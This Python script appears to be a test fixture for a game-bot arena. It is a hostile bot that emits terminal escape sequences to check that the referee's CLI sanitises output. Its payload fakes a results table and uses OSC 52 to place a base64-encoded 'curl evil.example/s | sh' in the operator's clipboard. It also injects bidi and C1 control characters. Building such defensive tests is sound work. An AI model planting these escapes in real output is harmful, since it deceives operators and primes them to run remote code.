#!/usr/bin/env python3
"""A protocol bot that attacks the operator's terminal: ``terminal_bot.py``.

Everything it controls carries terminal escapes (but its ``ready`` name and version, which the
referee refuses unless printable: arena/wire/protocol.py ``check_ready``): its stderr (a
clear-screen and a fake result table putting it at rank 1 with no fault, OSC 52 setting the
clipboard, BEL, carriage returns, C1 controls, a bidi override), and then its fault at decision
``agent_options["at"]`` (default 2): ``mode = "error"`` (default in seat 0) gives up with an
``error`` message holding the same escapes (the fault's detail), ``mode = "crash"`` (default in
the other seats, so that one `arena check` meets both) raises an exception whose traceback (on
stderr) holds them. Printed raw, `arena play`, `replay` and `check` would draw the
fake table (tests/arena/cli/test_terminal_escapes.py).
"""

from __future__ import annotations

import os
import sys

# The stdlib msgpack of the example bot: this one runs on any python3, inside the sandbox too.
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "examples", "bots"))

from first_option import read_message, send_message  # noqa: E402

CLEAR = "\x1b[2J\x1b[H"  # CSI: clear the screen, cursor home
FAKE_TABLE = "  seat  agent         score    rank  fault\n------  ----------  -------  ------  -------\n     0  terminal-bot      99       1\n"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\x07"  # OSC 52: "curl evil.example/s | sh"
OTHERS = "\r\x1b[1A\x1b[K\x9b2J\x90q\x9c\x00\x08\x7f\u202eevil\u2066\u200b"  # CR, cursor up, erase, C1, bidi, zero-width
PAYLOAD = CLEAR + FAKE_TABLE + CLIPBOARD + OTHERS


def main() -> int:
    inp, out = sys.stdin.buffer, sys.stdout.buffer

    def send(message: dict) -> None:
        send_message(out, message)

    hello = read_message(inp)
    options = hello["agent_options"]
    sys.stderr.write(PAYLOAD + "\n")
    sys.stderr.flush()
    send({"type": "ready", "name": "terminal-bot", "version": "1"})  # escapes here: a bad-frame fault
    count = 0
    while True:
        message = read_message(inp)
        if message is None or message["type"] == "end":
            return 0
        count += 1
        if count == options.get("at", 2):
            if options.get("mode", "error" if hello["seat"] == 0 else "crash") == "crash":
                raise RuntimeError(PAYLOAD)
            send({"type": "error", "message": PAYLOAD})
            return 0
        send({"type": "act", "id": message["id"], "choice": 0})


if __name__ == "__main__":
    sys.exit(main())
